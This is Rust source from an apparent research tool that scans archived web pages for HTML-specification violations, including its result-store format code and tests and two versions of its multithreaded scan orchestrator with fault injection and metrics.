    /// sniffed, the per-segment summaries (footers for v1, derived for
    /// v0), and — under [`LoadOptions::allow_partial`] — what was dropped.
    pub fn load_with(path: &Path, opts: LoadOptions) -> Result<LoadedStore, HvError> {
        let data = std::fs::read(path).map_err(|e| HvError::store_io(path, e))?;
        if data.starts_with(&format::MAGIC) {
            let v1 = format::read_v1(&data, path, opts)?;
            let mut store = ResultStore::new(v1.seed, v1.scale, v1.universe);
            store.records = v1.records;
            store.metrics = v1.metrics;
            store.quarantine = v1.quarantine;
            store.finalize();
            Ok(LoadedStore {
                store,
                format: StoreFormat::V1Binary,
                segments: v1.segments,
                dropped: v1.dropped,
            })
        } else {
            let store: ResultStore =
                serde_json::from_slice(&data).map_err(|e| HvError::store(path, e.to_string()))?;
            let segments = SegmentSummary::derive(&store);
            Ok(LoadedStore { store, format: StoreFormat::V0Json, segments, dropped: Vec::new() })
        }
    }
}

/// A process-unique temp sibling of `path`, in the same directory so the
/// final `rename` stays on one filesystem (rename across mounts is a
/// copy, not an atomic swap).
fn tmp_sibling(path: &Path) -> std::path::PathBuf {
    use std::sync::atomic::{AtomicU64, Ordering};
    static SEQ: AtomicU64 = AtomicU64::new(0);
    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    path.with_file_name(format!(
        ".{name}.tmp.{}.{}",
        std::process::id(),
        SEQ.fetch_add(1, Ordering::Relaxed)
    ))
}

/// fsync the directory holding `path`, making a just-committed rename
/// durable.
fn sync_dir(path: &Path) -> io::Result<()> {
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    std::fs::File::open(dir)?.sync_all()
}

/// Commit a finished temp-file write: rename it over `path` and fsync the
/// directory; on a failed write, clean the temp file up instead.
fn commit_tmp<T>(result: Result<T, HvError>, tmp: &Path, path: &Path) -> Result<T, HvError> {
    match result {
        Ok(v) => {
            std::fs::rename(tmp, path).map_err(|e| HvError::store_io(path, e))?;
            sync_dir(path).map_err(|e| HvError::store_io(path, e))?;
            Ok(v)
        }
        Err(e) => {
            std::fs::remove_file(tmp).ok();
            Err(e)
        }
    }
}

/// The two on-disk encodings of a [`ResultStore`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StoreFormat {
    /// The original single-JSON-blob layout — still the export and
    /// interchange format.
    V0Json,
    /// The segmented, checksummed binary layout (see [`crate::format`]).
    V1Binary,
}

impl StoreFormat {
    pub fn name(self) -> &'static str {
        match self {
            StoreFormat::V0Json => "v0-json",
            StoreFormat::V1Binary => "v1-binary",
        }
    }

    /// The format a path's extension implies when *writing*: `.json`
    /// means v0, everything else the binary format. (Reading always
    /// sniffs content, never the extension.)
    pub fn for_path(path: &Path) -> StoreFormat {
        match path.extension().and_then(|e| e.to_str()) {
            Some("json") => StoreFormat::V0Json,
            _ => StoreFormat::V1Binary,
        }
    }
}

/// A loaded store plus its provenance.
#[derive(Debug)]
pub struct LoadedStore {
    pub store: ResultStore,
    /// Which encoding the sniffing found on disk.
    pub format: StoreFormat,
    /// Per-segment summaries: footers for v1 stores, derived for v0.
    pub segments: Vec<SegmentSummary>,
    /// Segments a partial load dropped (empty on strict loads).
    pub dropped: Vec<DroppedSegment>,
}

/// Shared test-record factory: 10 pages found and analyzed, the given
/// kinds each on 3 pages. Used by sibling modules' tests too.
#[cfg(test)]
pub(crate) fn test_record(domain: u64, snap: usize, kinds: &[ViolationKind]) -> DomainYearRecord {
    DomainYearRecord {
        domain_id: domain,
        domain_name: format!("d{domain}.com"),
        rank: domain as u32 + 1,
        snapshot: Snapshot::ALL[snap],
        pages_found: 10,
        pages_analyzed: 10,
        kinds: kinds.iter().copied().collect(),
        page_counts: kinds.iter().map(|&k| (k, 3)).collect(),
        mitigations: MitigationFlags::default(),
        kinds_after_autofix: BTreeSet::new(),
        uses_math: false,
        pages_faulted: 0,
        pages_degraded: 0,
        pages_quarantined: 0,
    }
}

#[cfg(test)]
mod tests {
    use super::test_record as record;
    use super::*;

    #[test]
    fn finalize_orders_canonically() {
        let mut s = ResultStore::new(1, 1.0, 10);
        s.records.push(record(5, 3, &[]));
        s.records.push(record(1, 3, &[]));
        s.records.push(record(9, 0, &[]));
        s.finalize();
        let order: Vec<_> = s.records.iter().map(|r| (r.snapshot.index(), r.domain_id)).collect();
        assert_eq!(order, vec![(0, 9), (3, 1), (3, 5)]);
    }

    #[test]
    fn queries() {
        let mut s = ResultStore::new(1, 1.0, 10);
        s.records.push(record(1, 0, &[ViolationKind::FB2]));
        s.records.push(record(1, 1, &[]));
        s.records.push(record(2, 0, &[]));
        assert_eq!(s.by_snapshot(Snapshot::ALL[0]).count(), 2);
        assert_eq!(s.by_domain(1).count(), 2);
        assert_eq!(s.analyzed_domains().len(), 2);
        assert!(s.records[0].violating());
        assert!(!s.records[1].violating());
    }

    /// Stores written before the mitigation flags were grouped into an
    /// embedded [`MitigationFlags`] (and before the `metrics` field
    /// existed) keep loading: the flatten preserves the four historical
    /// top-level keys and `metrics` defaults to `None`. The second fixture
    /// record also omits `uses_math`, exercising its default.
    #[test]
    fn v0_format_store_still_loads() {
        let raw = include_str!("../fixtures/store_v0.json");
        let store: ResultStore = serde_json::from_str(raw).expect("v0 store loads");
        assert_eq!(store.seed, 7);
        assert!(store.metrics.is_none());
        assert_eq!(store.records.len(), 2);

        let alpha = &store.records[0];
        assert_eq!(alpha.domain_id, 1234567890123456789);
        assert!(alpha.mitigations.script_in_attribute);
        assert!(alpha.mitigations.newline_in_url);
        assert!(!alpha.mitigations.newline_and_lt_in_url);
        assert_eq!(alpha.page_counts.get(&ViolationKind::FB2), Some(&33));
        assert!(alpha.uses_math);

        let beta = &store.records[1];
        assert!(!beta.mitigations.any());
        assert!(!beta.uses_math);

        // Writing back keeps the v0 key layout: the four flags stay
        // top-level on each record (no nested "mitigations" object).
        let out = serde_json::to_value(&store);
        let rec = &out["records"][0];
        assert_eq!(rec["script_in_attribute"], serde_json::Value::Bool(true));
        assert!(matches!(rec["mitigations"], serde_json::Value::Null));
    }

    /// Clean stores must serialize without any trace of the failure model
    /// — the new fields only appear when a fault actually occurred — and
    /// faulted stores must round-trip them.
    #[test]
    fn fault_fields_are_invisible_on_clean_stores() {
        let mut clean = ResultStore::new(1, 1.0, 10);
        clean.records.push(record(1, 0, &[]));
        let json = serde_json::to_string(&clean).unwrap();
        for key in ["pages_faulted", "pages_degraded", "pages_quarantined", "quarantine"] {
            assert!(!json.contains(key), "{key} leaked into a clean store: {json}");
        }

        let mut faulted = ResultStore::new(1, 1.0, 10);
        let mut r = record(1, 0, &[]);
        r.pages_faulted = 3;
        r.pages_degraded = 1;
        r.pages_quarantined = 2;
        faulted.records.push(r);
        faulted.quarantine.push(crate::outcome::QuarantineEntry {
            domain_id: 1,
            snapshot: Snapshot::ALL[0],
            page_index: 4,
            url: "https://d1.com/page/4.html".into(),
            class: crate::outcome::ErrorClass::TruncatedRecord,
        });
        let json = serde_json::to_string(&faulted).unwrap();
        let back: ResultStore = serde_json::from_str(&json).unwrap();
        assert_eq!(back.records[0].pages_faulted, 3);
        assert_eq!(back.records[0].pages_degraded, 1);
        assert_eq!(back.records[0].pages_quarantined, 2);
        assert_eq!(back.quarantine, faulted.quarantine);
    }

    #[test]
    fn finalize_orders_quarantine_canonically() {
        let q = |d: u64, s: usize, p: usize| crate::outcome::QuarantineEntry {
            domain_id: d,
            snapshot: Snapshot::ALL[s],
            page_index: p,
            url: String::new(),
            class: crate::outcome::ErrorClass::TransientIo,
        };
        let mut store = ResultStore::new(1, 1.0, 10);
        store.quarantine = vec![q(5, 1, 0), q(1, 1, 9), q(1, 1, 2), q(9, 0, 3)];
        store.finalize();
        let order: Vec<_> = store
            .quarantine
            .iter()
            .map(|e| (e.snapshot.index(), e.domain_id, e.page_index))
            .collect();
        assert_eq!(order, vec![(0, 9, 3), (1, 1, 2), (1, 1, 9), (1, 5, 0)]);
    }

    #[test]
    fn save_load_roundtrip() {
        let mut s = ResultStore::new(7, 0.5, 3);
        s.records.push(record(1, 2, &[ViolationKind::DM3, ViolationKind::HF4]));
        s.finalize();
        let dir = std::env::temp_dir().join("hv_store_test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("store.json");
        s.save(&path).unwrap();
        let back = ResultStore::load(&path).unwrap();
        assert_eq!(back.seed, 7);
        assert_eq!(back.records.len(), 1);
        assert!(back.records[0].kinds.contains(&ViolationKind::HF4));
        std::fs::remove_file(&path).ok();
    }

    fn sample_store() -> ResultStore {
        let mut s = ResultStore::new(9, 0.25, 42);
        s.records.push(record(1, 0, &[ViolationKind::FB2]));
        s.records.push(record(2, 0, &[]));
        s.records.push(record(77, 5, &[ViolationKind::DM3]));
        s.metrics = Some(ScanMetrics::default());
        s.quarantine.push(QuarantineEntry {
            domain_id: 2,
            snapshot: Snapshot::ALL[0],
            page_index: 3,
            url: "https://d2.com/page/3.html".into(),
            class: crate::outcome::ErrorClass::TransientIo,
        });
        s.finalize();
        s
    }

    #[test]
    fn v1_roundtrip_preserves_everything_and_sniffing_names_formats() {
        let s = sample_store();
        let dir = std::env::temp_dir().join("hv_store_v1_test");
        std::fs::create_dir_all(&dir).unwrap();

        let v1 = dir.join("store.hvs");
        let segs = s.save_v1(&v1).unwrap();
        assert_eq!(segs.len(), 2, "two snapshots, two segments");
        assert_eq!(segs[0].records, 2);
        assert_eq!(segs[0].domains_violating, 1);
        assert_eq!(segs[1].records, 1);

        let loaded = ResultStore::load_with(&v1, LoadOptions::default()).unwrap();
        assert_eq!(loaded.format, StoreFormat::V1Binary);
        assert_eq!(loaded.segments, segs, "footers round-trip");
        assert!(loaded.dropped.is_empty());
        assert_eq!(
            serde_json::to_string(&loaded.store).unwrap(),
            serde_json::to_string(&s).unwrap(),
            "v1 round-trip is lossless"
        );

        // The same store through the v0 path sniffs as JSON and derives
        // the identical per-segment summaries.
        let v0 = dir.join("store.json");
        s.save(&v0).unwrap();
        let loaded = ResultStore::load_with(&v0, LoadOptions::default()).unwrap();
        assert_eq!(loaded.format, StoreFormat::V0Json);
        assert_eq!(loaded.segments, segs);

        assert_eq!(StoreFormat::for_path(&v0), StoreFormat::V0Json);
        assert_eq!(StoreFormat::for_path(&v1), StoreFormat::V1Binary);
        assert_eq!(StoreFormat::V0Json.name(), "v0-json");
        assert_eq!(StoreFormat::V1Binary.name(), "v1-binary");
        std::fs::remove_file(&v0).ok();
        std::fs::remove_file(&v1).ok();
    }

    /// A bit flip inside a segment fails the strict load with the segment
    /// and offset named; `--allow-partial` keeps the intact segment and
    /// reports the dropped one.
    #[test]
    fn corrupt_segment_strict_fails_partial_recovers() {
        let s = sample_store();
        let dir = std::env::temp_dir().join("hv_store_corrupt_test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("store.hvs");
        s.save_v1(&path).unwrap();

        // Flip a byte inside the second segment: domain "d77.com" only
        // appears there.
        let mut data = std::fs::read(&path).unwrap();
        let needle = b"d77.com";
        let at = data.windows(needle.len()).position(|w| w == needle).unwrap();
        data[at] ^= 0x01;
        std::fs::write(&path, &data).unwrap();

        let err = ResultStore::load(&path).unwrap_err();
        match err {
            hv_core::HvError::StoreCorrupt { segment, offset, .. } => {
                assert_eq!(segment, Some(1));
                assert!(offset > 0);
            }
            other => panic!("expected StoreCorrupt, got {other}"),
        }

        let partial = ResultStore::load_with(&path, LoadOptions { allow_partial: true }).unwrap();
        assert_eq!(partial.store.records.len(), 2, "snapshot-0 segment survives");
        assert_eq!(partial.segments.len(), 1);
        assert_eq!(partial.dropped.len(), 1);
        assert_eq!(partial.dropped[0].segment, 1);
        assert!(partial.dropped[0].detail.contains("checksum"));
        // The metrics block sits after the corrupt segment and still
        // loads; the quarantine entry rides inside the intact segment 0.
        assert!(partial.store.metrics.is_some());
        assert_eq!(partial.store.quarantine.len(), 1);
        std::fs::remove_file(&path).ok();
    }

    /// Truncation (a partial write, a torn download) is caught by the
    /// missing trailer even when it lands exactly on a block boundary.
    #[test]
    fn truncated_store_is_rejected() {
        let s = sample_store();
        let dir = std::env::temp_dir().join("hv_store_trunc_test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("store.hvs");
        s.save_v1(&path).unwrap();
        let data = std::fs::read(&path).unwrap();
        // Drop the trailer exactly (17 bytes: tag + u32 + u64 + crc).
        std::fs::write(&path, &data[..data.len() - 17]).unwrap();
        let err = ResultStore::load(&path).unwrap_err();
        assert!(err.to_string().contains("missing trailer"), "got: {err}");
        let partial = ResultStore::load_with(&path, LoadOptions { allow_partial: true }).unwrap();
        assert_eq!(partial.store.records.len(), 3, "all segments intact");
        assert_eq!(partial.dropped.len(), 1, "the missing trailer is reported");
        std::fs::remove_file(&path).ok();
    }
}
