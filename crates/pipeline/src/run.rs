//! The Figure-6 pipeline orchestrator.
//!
//! Steps per (domain, snapshot): (1) CDX metadata lookup, (2) fetch WARC
//! records, (3) decode + run the checker battery, (4) store. Work is fanned
//! out over a crossbeam worker pool — the workload is pure CPU (parsing),
//! so threads, not async, are the right tool. Results are independent per
//! work item and re-sorted at the end, making the scan deterministic at any
//! thread count.

use crate::store::{DomainYearRecord, ResultStore};
use hv_core::checkers;
use hv_core::context::CheckContext;
use hv_corpus::{Archive, Snapshot};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::atomic::{AtomicUsize, Ordering};

/// Scan options.
#[derive(Debug, Clone, Copy)]
pub struct ScanOptions {
    /// Worker threads; 0 = one per available core.
    pub threads: usize,
    /// Also compute the §4.4 auto-fix projection per domain (adds one
    /// classification pass; cheap — it reuses the check results).
    pub autofix_projection: bool,
    /// Print progress to stderr every this many domain-snapshots
    /// (0 = silent).
    pub progress_every: usize,
}

impl Default for ScanOptions {
    fn default() -> Self {
        ScanOptions { threads: 0, autofix_projection: true, progress_every: 0 }
    }
}

/// Run the full measurement: every domain of the archive's top list, every
/// snapshot, up to 100 pages each — the paper's §4.1 study execution.
pub fn scan(archive: &Archive, opts: ScanOptions) -> ResultStore {
    scan_snapshots(archive, &Snapshot::ALL, opts)
}

/// Run the measurement for a subset of snapshots.
pub fn scan_snapshots(archive: &Archive, snapshots: &[Snapshot], opts: ScanOptions) -> ResultStore {
    let threads = if opts.threads == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        opts.threads
    };

    // Work items: (domain index, snapshot). The vector is only indices —
    // workers pull from an atomic cursor, so no channel overhead.
    let domains = archive.domains();
    let mut work: Vec<(usize, Snapshot)> = Vec::with_capacity(domains.len() * snapshots.len());
    for (i, _) in domains.iter().enumerate() {
        for &snap in snapshots {
            work.push((i, snap));
        }
    }

    let cursor = AtomicUsize::new(0);
    let done = AtomicUsize::new(0);
    let total = work.len();

    let mut store = ResultStore::new(archive.cfg.seed, archive.cfg.scale, domains.len());
    let records: Vec<Vec<DomainYearRecord>> = crossbeam::thread::scope(|s| {
        let mut handles = Vec::new();
        for _ in 0..threads {
            let cursor = &cursor;
            let done = &done;
            let work = &work;
            handles.push(s.spawn(move |_| {
                let mut out = Vec::new();
                loop {
                    let i = cursor.fetch_add(1, Ordering::Relaxed);
                    if i >= work.len() {
                        break;
                    }
                    let (dom_idx, snap) = work[i];
                    if let Some(rec) = scan_domain_snapshot(archive, dom_idx, snap, opts) {
                        out.push(rec);
                    }
                    let d = done.fetch_add(1, Ordering::Relaxed) + 1;
                    if opts.progress_every > 0 && d.is_multiple_of(opts.progress_every) {
                        eprintln!("  scanned {d}/{total} domain-snapshots");
                    }
                }
                out
            }));
        }
        handles.into_iter().map(|h| h.join().expect("worker panicked")).collect()
    })
    .expect("scope");

    for batch in records {
        store.records.extend(batch);
    }
    store.finalize();
    store
}

/// Steps (1)–(3) for one (domain, snapshot); `None` when the domain has no
/// CDX entry in that crawl.
fn scan_domain_snapshot(
    archive: &Archive,
    dom_idx: usize,
    snap: Snapshot,
    opts: ScanOptions,
) -> Option<DomainYearRecord> {
    let domain = &archive.domains()[dom_idx];
    let cdx = archive.cdx_lookup(domain, snap)?;

    let mut kinds: BTreeSet<hv_core::ViolationKind> = BTreeSet::new();
    let mut page_counts: BTreeMap<hv_core::ViolationKind, u32> = BTreeMap::new();
    let mut analyzed = 0usize;
    let mut script_in_attribute = false;
    let mut script_in_nonced_script = false;
    let mut newline_in_url = false;
    let mut newline_and_lt_in_url = false;
    let mut uses_math = false;

    for entry in &cdx.pages {
        let body = archive.fetch_page(&cdx.snapshot, entry.page_index);
        // §4.1: documents that are not UTF-8 decodable are filtered out.
        let Some(text) = decode(&body) else { continue };
        analyzed += 1;
        let cx = CheckContext::new(&text);
        let report = checkers::check_context(&cx);
        for k in report.kinds() {
            kinds.insert(k);
            *page_counts.entry(k).or_insert(0) += 1;
        }
        script_in_attribute |= report.mitigations.script_in_attribute;
        script_in_nonced_script |= report.mitigations.script_in_nonced_script;
        newline_in_url |= report.mitigations.newline_in_url;
        newline_and_lt_in_url |= report.mitigations.newline_and_lt_in_url;
        // §4.2's usage counter: any math element (either namespace's
        // spelling ends up as a MathML-ns `math` element or an HTML
        // orphan; count both).
        uses_math |= cx
            .parse
            .dom
            .all_elements()
            .any(|id| cx.parse.dom.element(id).is_some_and(|e| e.name == "math"));
    }

    let kinds_after_autofix = if opts.autofix_projection {
        // §4.4's projection: the automatic pass removes the Automatic
        // kinds; Manual kinds remain.
        kinds
            .iter()
            .copied()
            .filter(|k| k.fixability() == hv_core::Fixability::Manual)
            .collect()
    } else {
        BTreeSet::new()
    };

    Some(DomainYearRecord {
        domain_id: domain.id,
        domain_name: domain.name.clone(),
        rank: domain.rank,
        snapshot: snap,
        pages_found: cdx.pages.len(),
        pages_analyzed: analyzed,
        kinds,
        page_counts,
        script_in_attribute,
        script_in_nonced_script,
        newline_in_url,
        newline_and_lt_in_url,
        kinds_after_autofix,
        uses_math,
    })
}

fn decode(bytes: &[u8]) -> Option<String> {
    match spec_html::decoder::decode_utf8(bytes) {
        spec_html::decoder::Decoded::Utf8(s) => Some(s),
        spec_html::decoder::Decoded::NotUtf8 { .. } => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hv_core::autofix;
    use hv_corpus::CorpusConfig;

    fn tiny_archive() -> Archive {
        Archive::new(CorpusConfig { seed: 1234, scale: 0.002 })
    }

    #[test]
    fn scan_produces_records_for_present_domains() {
        let archive = tiny_archive();
        let store = scan_snapshots(
            &archive,
            &[Snapshot::ALL[7]],
            ScanOptions { threads: 2, ..ScanOptions::default() },
        );
        assert!(!store.records.is_empty());
        for r in &store.records {
            assert!(r.pages_found >= 1 && r.pages_found <= 100);
            assert!(r.pages_analyzed <= r.pages_found);
        }
    }

    #[test]
    fn scan_is_thread_count_invariant() {
        let archive = tiny_archive();
        let snaps = [Snapshot::ALL[0]];
        let a = scan_snapshots(&archive, &snaps, ScanOptions { threads: 1, ..Default::default() });
        let b = scan_snapshots(&archive, &snaps, ScanOptions { threads: 8, ..Default::default() });
        assert_eq!(a.records.len(), b.records.len());
        for (x, y) in a.records.iter().zip(&b.records) {
            assert_eq!(x.domain_id, y.domain_id);
            assert_eq!(x.kinds, y.kinds);
            assert_eq!(x.pages_analyzed, y.pages_analyzed);
        }
    }

    #[test]
    fn utf8_filter_reduces_analyzed_pages() {
        let archive = tiny_archive();
        let store = scan(&archive, ScanOptions { threads: 4, ..Default::default() });
        // Some domain-snapshots fail the UTF-8 filter entirely.
        let failed = store.records.iter().filter(|r| r.pages_analyzed == 0).count();
        assert!(failed > 0, "expected some non-UTF-8 domain-snapshots");
        // But the overwhelming majority decode.
        let analyzed = store.records.iter().filter(|r| r.analyzed()).count();
        assert!(analyzed * 100 / store.records.len() >= 95);
    }

    #[test]
    fn autofix_projection_is_subset_of_kinds() {
        let archive = tiny_archive();
        let store = scan_snapshots(&archive, &[Snapshot::ALL[7]], ScanOptions::default());
        for r in &store.records {
            assert!(r.kinds_after_autofix.is_subset(&r.kinds));
            for k in &r.kinds_after_autofix {
                assert_eq!(k.fixability(), hv_core::Fixability::Manual);
            }
        }
    }

    /// End-to-end spot check: re-running the actual auto-fixer over a
    /// violating page removes exactly the Automatic kinds (the projection
    /// used by the aggregate is faithful to the real fixer).
    #[test]
    fn autofix_projection_matches_real_fixer() {
        let archive = tiny_archive();
        let snap = Snapshot::ALL[7];
        let mut checked = 0;
        for d in archive.domains() {
            let Some(cdx) = archive.cdx_lookup(d, snap) else { continue };
            if !cdx.snapshot.utf8_ok {
                continue;
            }
            for entry in cdx.pages.iter().take(2) {
                let body = archive.fetch_page(&cdx.snapshot, entry.page_index);
                let text = String::from_utf8(body.to_vec()).unwrap();
                let outcome = autofix::auto_fix(&text);
                for k in &outcome.after {
                    // Everything surviving the real fixer is Manual.
                    assert_eq!(
                        k.fixability(),
                        hv_core::Fixability::Manual,
                        "auto-fix left {k} behind on {}",
                        entry.url
                    );
                }
                checked += 1;
            }
            if checked > 40 {
                break;
            }
        }
        assert!(checked > 20);
    }
}
