//! The Figure-6 pipeline orchestrator — a page-granular scan engine.
//!
//! Steps: (1) the driver performs every CDX metadata lookup up front and
//! flattens the hits into one global page index (prefix sums over the
//! per-domain page counts). Workers then pull *individual pages* from an
//! atomic cursor — no domain is large enough to straggle, so the pool
//! stays busy to the last page. Each worker owns one reusable
//! [`hv_core::Battery`] (the rule set is boxed once, the findings buffer
//! recycled page-to-page) and accumulates per-domain partials locally;
//! (4) after the join the driver folds the partials into
//! [`DomainYearRecord`]s. Every merge is commutative (set union, count
//! addition, flag OR), so the result is byte-identical at any thread
//! count.
//!
//! With [`ScanOptions::collect_metrics`] the workers additionally time
//! each phase (fetch/decode/parse/check) and every individual rule into a
//! [`ScanMetrics`], merged lock-free at the join and embedded in the
//! store as provenance.

use crate::format::{Resumed, SegmentSummary, StoreWriter};
use crate::metrics::{PhaseNanos, ScanMetrics};
use crate::outcome::{ErrorClass, QuarantineEntry, RetryPolicy};
use crate::store::{DomainYearRecord, ResultStore};
use hv_core::context::CheckContext;
use hv_core::{Battery, HvError, MitigationFlags, ViolationKind};
use hv_corpus::archive::{CdxEntry, DomainCdx};
use hv_corpus::faults::{FaultClass, FaultPlan, FetchFault, PageKey};
use hv_corpus::{Archive, Snapshot};
use std::collections::{BTreeMap, BTreeSet};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

/// Scan options. Construct with [`ScanOptions::new`] and chain the
/// builder methods; the struct is `#[non_exhaustive]` so new knobs can be
/// added without breaking callers.
///
/// ```
/// use hv_pipeline::ScanOptions;
/// let opts = ScanOptions::new().threads(8).progress_every(500).collect_metrics(true);
/// assert_eq!(opts.threads, 8);
/// ```
#[derive(Debug, Clone, Copy)]
#[non_exhaustive]
pub struct ScanOptions {
    /// Worker threads; 0 = one per available core.
    pub threads: usize,
    /// Also compute the §4.4 auto-fix projection per domain (adds one
    /// classification pass; cheap — it reuses the check results).
    pub autofix_projection: bool,
    /// Print progress to stderr every this many pages (0 = silent).
    pub progress_every: usize,
    /// Collect [`ScanMetrics`] (per-phase timings, per-check fire counts)
    /// and embed them in the store. Adds two clock reads per page plus one
    /// per rule execution.
    pub collect_metrics: bool,
    /// Deterministic fault injection over the read path (`None` = clean
    /// scan). See [`hv_corpus::faults`].
    pub faults: Option<FaultPlan>,
    /// Retry policy for transient fetch errors.
    pub retry: RetryPolicy,
    /// Record bodies larger than this are quarantined
    /// ([`ErrorClass::OversizedBody`]) instead of parsed.
    pub byte_budget: usize,
    /// Resume a crash-interrupted streamed scan: validate the existing
    /// store's prefix, skip its completed snapshots, and append the rest
    /// (see [`StoreWriter::resume`]). Only meaningful for
    /// [`scan_streamed`].
    pub resume: bool,
    /// Allow [`scan_streamed`] to replace an existing non-empty store
    /// (without it, clobbering is refused with
    /// [`HvError::StoreExists`](hv_core::HvError::StoreExists)).
    pub overwrite: bool,
}

/// Default per-record byte budget: far above any page the generator emits,
/// far below anything that could pressure memory.
pub const DEFAULT_BYTE_BUDGET: usize = 1 << 20;

impl ScanOptions {
    /// The defaults: all cores, auto-fix projection on, silent, no
    /// metrics, no faults, three fetch attempts, 1 MiB byte budget.
    pub fn new() -> Self {
        ScanOptions {
            threads: 0,
            autofix_projection: true,
            progress_every: 0,
            collect_metrics: false,
            faults: None,
            retry: RetryPolicy::default(),
            byte_budget: DEFAULT_BYTE_BUDGET,
            resume: false,
            overwrite: false,
        }
    }

    /// Worker threads; 0 = one per available core.
    pub fn threads(mut self, threads: usize) -> Self {
        self.threads = threads;
        self
    }

    /// Toggle the §4.4 auto-fix projection.
    pub fn autofix_projection(mut self, on: bool) -> Self {
        self.autofix_projection = on;
        self
    }

    /// Print progress to stderr every `every` pages (0 = silent).
    pub fn progress_every(mut self, every: usize) -> Self {
        self.progress_every = every;
        self
    }

    /// Toggle [`ScanMetrics`] collection.
    pub fn collect_metrics(mut self, on: bool) -> Self {
        self.collect_metrics = on;
        self
    }

    /// Inject deterministic faults into the read path.
    pub fn inject_faults(mut self, plan: FaultPlan) -> Self {
        self.faults = Some(plan);
        self
    }

    /// Override the transient-error retry policy.
    pub fn retry(mut self, policy: RetryPolicy) -> Self {
        self.retry = policy;
        self
    }

    /// Override the per-record byte budget.
    pub fn byte_budget(mut self, budget: usize) -> Self {
        self.byte_budget = budget;
        self
    }

    /// Resume a crash-interrupted streamed scan at the target path.
    pub fn resume(mut self, on: bool) -> Self {
        self.resume = on;
        self
    }

    /// Allow a streamed scan to replace an existing non-empty store.
    pub fn overwrite(mut self, on: bool) -> Self {
        self.overwrite = on;
        self
    }
}

impl Default for ScanOptions {
    fn default() -> Self {
        ScanOptions::new()
    }
}

/// Run the full measurement: every domain of the archive's top list, every
/// snapshot, up to 100 pages each — the paper's §4.1 study execution.
pub fn scan(archive: &Archive, opts: ScanOptions) -> ResultStore {
    scan_snapshots(archive, &Snapshot::ALL, opts)
}

/// One (domain, snapshot) with a CDX hit — the unit the partials merge
/// back into.
struct Slot {
    dom_idx: usize,
    snap: Snapshot,
    cdx: DomainCdx,
}

/// A worker's running totals for one slot. All fields merge commutatively.
#[derive(Default)]
struct Partial {
    analyzed: usize,
    kinds: BTreeSet<hv_core::ViolationKind>,
    page_counts: BTreeMap<hv_core::ViolationKind, u32>,
    mitigations: MitigationFlags,
    uses_math: bool,
    /// Pages with an injected fault (any class).
    faulted: usize,
    /// Pages analyzed only after transient-error retries.
    degraded: usize,
    /// Pages set aside with a structured reason.
    quarantined: usize,
}

impl Partial {
    fn absorb(&mut self, other: Partial) {
        self.analyzed += other.analyzed;
        self.kinds.extend(other.kinds);
        for (k, n) in other.page_counts {
            *self.page_counts.entry(k).or_insert(0) += n;
        }
        self.mitigations.merge(other.mitigations);
        self.uses_math |= other.uses_math;
        self.faulted += other.faulted;
        self.degraded += other.degraded;
        self.quarantined += other.quarantined;
    }
}

/// Run the measurement for a subset of snapshots.
pub fn scan_snapshots(archive: &Archive, snapshots: &[Snapshot], opts: ScanOptions) -> ResultStore {
    let threads = if opts.threads == 0 {
        std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4)
    } else {
        opts.threads
    };
    let scan_start = Instant::now();

    // Phase (1): all CDX lookups, driver-side. Cheap relative to parsing,
    // and doing them up front yields the flat page index the workers need.
    let cdx_start = Instant::now();
    let domains = archive.domains();
    let mut slots: Vec<Slot> = Vec::new();
    for (dom_idx, domain) in domains.iter().enumerate() {
        for &snap in snapshots {
            if let Some(cdx) = archive.cdx_lookup(domain, snap) {
                slots.push(Slot { dom_idx, snap, cdx });
            }
        }
    }
    let cdx_nanos = cdx_start.elapsed().as_nanos() as u64;

    // Prefix sums: global page index g lives in slot
    // partition_point(starts, <= g) - 1 at local offset g - starts[slot].
    let mut starts = Vec::with_capacity(slots.len() + 1);
    let mut acc = 0usize;
    for slot in &slots {
        starts.push(acc);
        acc += slot.cdx.pages.len();
    }
    starts.push(acc);
    let total_pages = acc;

    let cursor = AtomicUsize::new(0);
    let done = AtomicUsize::new(0);

    let worker_out: Vec<WorkerOut> = std::thread::scope(|s| {
        let mut handles = Vec::new();
        for _ in 0..threads {
            let cursor = &cursor;
            let done = &done;
            let slots = &slots;
            let starts = &starts;
            handles.push(s.spawn(move || {
                scan_worker(archive, slots, starts, total_pages, cursor, done, opts)
            }));
        }
        // Per-page panics are caught *inside* the worker (quarantined as
        // [`ErrorClass::ParserPanic`]); a worker dying here would be an
        // engine bug, not an input problem.
        handles.into_iter().map(|h| h.join().expect("scan worker panicked")).collect()
    });

    // Fold worker partials per slot. Each merge is commutative, and the
    // quarantine union is re-sorted in `finalize`, so the worker order
    // cannot show through.
    let mut merged: Vec<Partial> = (0..slots.len()).map(|_| Partial::default()).collect();
    let mut metrics = ScanMetrics::default();
    let mut quarantine = Vec::new();
    for out in worker_out {
        for (slot_idx, partial) in out.partials {
            merged[slot_idx].absorb(partial);
        }
        metrics.merge(&out.metrics);
        quarantine.extend(out.quarantine);
    }

    let mut store = ResultStore::new(archive.cfg.seed, archive.cfg.scale, domains.len());
    for (slot, partial) in slots.iter().zip(merged) {
        store.records.push(make_record(archive, slot, partial, opts));
    }
    store.quarantine = quarantine;
    store.finalize();

    if opts.collect_metrics {
        metrics.threads = threads;
        metrics.phases.cdx = cdx_nanos;
        metrics.domain_snapshots = slots.len() as u64;
        metrics.pages_listed = total_pages as u64;
        metrics.wall_nanos = scan_start.elapsed().as_nanos() as u64;
        store.metrics = Some(metrics);
    }
    store
}

/// What a streamed scan produced: everything except the records, which
/// went straight to disk.
#[derive(Debug, Clone)]
pub struct ScanSummary {
    /// Records written across all segments.
    pub records: u64,
    /// Pages set aside with a structured reason.
    pub quarantined: usize,
    /// Per-segment summaries, in snapshot order (matches the footers).
    pub segments: Vec<SegmentSummary>,
